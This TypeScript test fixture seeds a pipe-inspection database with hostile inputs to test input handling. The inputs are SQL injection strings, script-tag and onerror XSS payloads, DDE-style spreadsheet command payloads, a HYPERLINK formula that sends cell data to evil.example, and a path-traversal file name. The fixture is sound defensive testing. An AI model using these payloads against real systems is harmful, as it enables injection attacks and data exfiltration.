import crypto from 'node:crypto';
import sharp from 'sharp';
import { eq } from 'drizzle-orm';
import { frames, inspections } from '../../../lib/db/schema';
import type { ServiceContext } from '../../../lib/services/context';
import { createSegment } from '../../../lib/services/segments/create-segment';
import { startInspection } from '../../../lib/services/inspections/start-inspection';

/** Injection and rendering trouble in text (each under 80 UTF-16 units, so it also fits a reviewer name). */
export const HOSTILE_TEXT = {
  sql: "'; DROP TABLE segments; --",
  sqlParen: "Robert'); DROP TABLE observations;--",
  script: '<script>alert(1)</script>',
  img: '<img src=x onerror=alert(1)>',
  formula: '=HYPERLINK("http://evil.example/?d="&A1,"open")',
  plus: "+cmd|' /C calc'!A0",
  minus: "-2+3+cmd|' /C calc'!A0",
  at: '@SUM(1+1)*cmd|\' /C calc\'!A0',
  spacedFormula: '  =1+1',
  quotes: 'O\'Brien said "hi", then left',
  unicode: '관로 조사 — Ümlaut ñ 😀',
  bidi: 'abc\u202Eevil\u202C.mp4',
  format: 'C:\\path\\x %s %n ${x} {{x}} \\u0000',
} as const;

export function segmentInput(assetId: string, patch: Record<string, unknown> = {}): Record<string, unknown> {
  return {
    assetId, upstreamManhole: 'MH-1', downstreamManhole: 'MH-2', diameterMm: 300, material: 'concrete', lengthM: 36,
    direction: 'downstream', location: 'Test St', inspectionDate: '2026-10-14', operator: 'CI', ...patch,
  };
}

/** The name a hostile upload arrives with (kept, cleaned, as metadata). */
export const HOSTILE_FILENAME = '../../<script>alert(1)</script>=cmd.mp4';

/**
 * A finished inspection whose segment carries hostile text in every free-text field and whose
 * upload had a hostile name: 10 frames at 1 fps with normalized JPEGs in the store, no observations.
 */
export async function seedHostileInspection(ctx: ServiceContext, assetId: string): Promise<{ segmentId: string; inspectionId: string }> {
  const seg = await createSegment(ctx, segmentInput(assetId, {
    upstreamManhole: HOSTILE_TEXT.formula,
    downstreamManhole: HOSTILE_TEXT.script,
    location: `${HOSTILE_TEXT.sql} ${HOSTILE_TEXT.img}`,
    operator: HOSTILE_TEXT.at,
  }));
  const insp = await startInspection(ctx, { segmentId: seg.id, videoKey: crypto.randomBytes(16).toString('hex'), originalFilename: HOSTILE_FILENAME, sizeBytes: 1000 });
  const W = 160;
  const H = 120;
  await ctx.db
    .update(inspections)
    .set({
      status: 'done', model: 'test@1', framesExpected: 10, finishedAt: new Date(),
      video: { durationS: 10, fps: 25, width: W, height: H, codec: 'h264', formatName: 'mov,mp4,m4a,3gp,3g2,mj2', displayAspect: 4 / 3, rotation: 0, sizeBytes: 1000, interlaced: false },
    })
    .where(eq(inspections.id, insp.id));
  const stats = { meanLuma: 100, stdLuma: 20, meanR: 100, meanG: 100, meanB: 100 };
  await ctx.db.insert(frames).values(Array.from({ length: 10 }, (_, i) => ({ inspectionId: insp.id, frameIndex: i, tS: i, distanceM: i * 3.6, width: W, height: H, before: stats, after: stats })));
  const jpeg = await sharp({ create: { width: W, height: H, channels: 3, background: { r: 90, g: 80, b: 70 } } }).jpeg().toBuffer();
  for (let i = 0; i < 10; i++) await ctx.store.writeAtomic(ctx.store.framePath(insp.id, i, 'norm'), jpeg);
  return { segmentId: seg.id, inspectionId: insp.id };
}
